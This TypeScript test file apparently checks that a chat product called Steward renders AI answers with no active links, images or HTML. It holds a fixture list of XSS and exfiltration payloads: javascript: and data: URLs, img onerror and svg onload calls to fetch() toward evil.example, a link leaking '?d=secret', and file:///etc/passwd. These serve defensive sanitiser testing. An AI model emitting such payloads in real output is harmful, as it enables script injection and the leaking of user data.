/** Nothing that an answer says can become markup, an image, or a link that leaves Steward. */
import { createElement, Fragment } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, test } from 'vitest'
import { safeLink } from './links.ts'
import Markdown from './markdown.tsx'
import { drawNode } from './nodes.tsx'
import { parseMarkdown } from './parse.ts'

const draw = (source: string) =>
  renderToStaticMarkup(createElement(Fragment, null, drawNode(parseMarkdown(source))))
const show = (text: string, isStreaming = false) =>
  renderToStaticMarkup(createElement(Markdown, { text, isStreaming }))

const urls = [
  'https://evil.example/x?d=secret',
  'http://evil.example',
  '//evil.example/x',
  'HTTPS://EVIL.EXAMPLE',
  'https:evil.example',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\u200bscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:x',
  'file:///etc/passwd',
  'blob:https://evil.example/1',
  '/\\evil.example',
  '/c/../../api/session',
  '/api/conversations',
  '/c/1?next=https://evil.example',
  '/c/1#x',
  '/\u202egro.live',
  'mailto:a@evil.example',
  'ftp://evil.example',
  '&#106;avascript:alert(1)',
  'https&#58;//evil.example',
  '\\\\evil.example',
]
const forms = [
  (url: string) => `[click](${url})`,
  (url: string) => `[click](<${url}>)`,
  (url: string) => `[click](${url} "title")`,
  (url: string) => `[click][r]\n\n[r]: ${url}`,
  (url: string) => `[click][]\n\n[click]: ${url}`,
  (url: string) => `[click]\n\n[click]: ${url}`,
  (url: string) => `<${url}>`,
  (url: string) => `see ${url} now`,
  (url: string) => `see ${url.replace(/^https?:\/\//, 'www.')} now`,
  (url: string) => `![alt](${url})`,
  (url: string) => `![alt][r]\n\n[r]: ${url}`,
  (url: string) => `[![alt](${url})](${url})`,
  (url: string) => `<a href="${url}">x</a>`,
  (url: string) => `<img src="${url}">`,
  (url: string) => `<img src=x onerror="fetch('${url}')">`,
  (url: string) => `<script src="${url}"></script>`,
  (url: string) => `<svg onload="fetch('${url}')"/>`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<style>@import "${url}"</style>`,
  (url: string) => `| a |\n|---|\n| [x](${url}) |`,
  (url: string) => `- [x](${url})\n- <b onclick="x">y</b>`,
  (url: string) => `> [x](${url})`,
  (url: string) => `**[x](${url})**`,
  (url: string) => `note[^1]\n\n[^1]: [x](${url})`,
]

describe('what leaves Steward', () => {
  test('no form of link, image or HTML becomes active, whole or while it streams', () => {
    for (const form of forms) {
      for (const url of urls) {
        const source = form(url)
        for (const html of [draw(source), show(source), show(source, true)]) {
          const tags = html.match(/<[^>]*>/g) ?? []
          const allowed =
            /^<\/?(p|span|bdi|strong|em|del|code|pre|ul|ol|li|blockquote|table|thead|tbody|tr|th|td|div|h[3-5]|hr|br)\b/
          expect(
            tags.filter((tag) => !allowed.test(tag)),
            source,
          ).toEqual([])
          expect(
            tags.filter((tag) => /\b(href|src|srcset|action|on\w+)\s*=/i.test(tag)),
            source,
          ).toEqual([])
        }
      }
    }
  })
  test('the words of a foreign link stay, with the host that they hid', () => {
    const html = draw('see [the note](https://evil.example/x)')
    expect(html).toContain('<bdi>the note</bdi>')
    expect(html).toContain('(evil.example)')
  })
  test('words that name another host than the link are shown up', () => {
    expect(draw('[good.example](https://evil.example)')).toContain('(evil.example)')
    expect(draw('[evil.example.good.example](https://evil.example)')).toContain('(evil.example)')
  })
  test('an address that shows itself is not printed twice', () => {
    expect(draw('https://evil.example/a')).toBe('<p><bdi>https://evil.example/a</bdi></p>')
    expect(draw('a@evil.example')).toBe('<p><bdi>a@evil.example</bdi></p>')
  })
})

describe('what stays inside', () => {
  test('a path of the page is a link', () => {
    expect(draw('[that one](/c/3f2a-9)')).toBe('<p><a href="/c/3f2a-9">that one</a></p>')
    expect(safeLink('/')).toEqual({ kind: 'inside', path: '/' })
  })
  test('headings start below the question, lists and tables keep their shape', () => {
    expect(draw('# T')).toBe('<h3>T</h3>')
    expect(show('3. a\n4. b')).toContain('<ol start="3"><li><p>a</p></li><li><p>b</p></li></ol>')
    expect(draw('| a | b |\n|---|--:|\n| 1 | 2 |')).toContain('<td style="text-align:right">2</td>')
  })
  test('angle brackets that are no HTML stay readable', () => {
    expect(draw('NRR < 90 & GRR > 80')).toBe('<p>NRR &lt; 90 &amp; GRR &gt; 80</p>')
  })
})
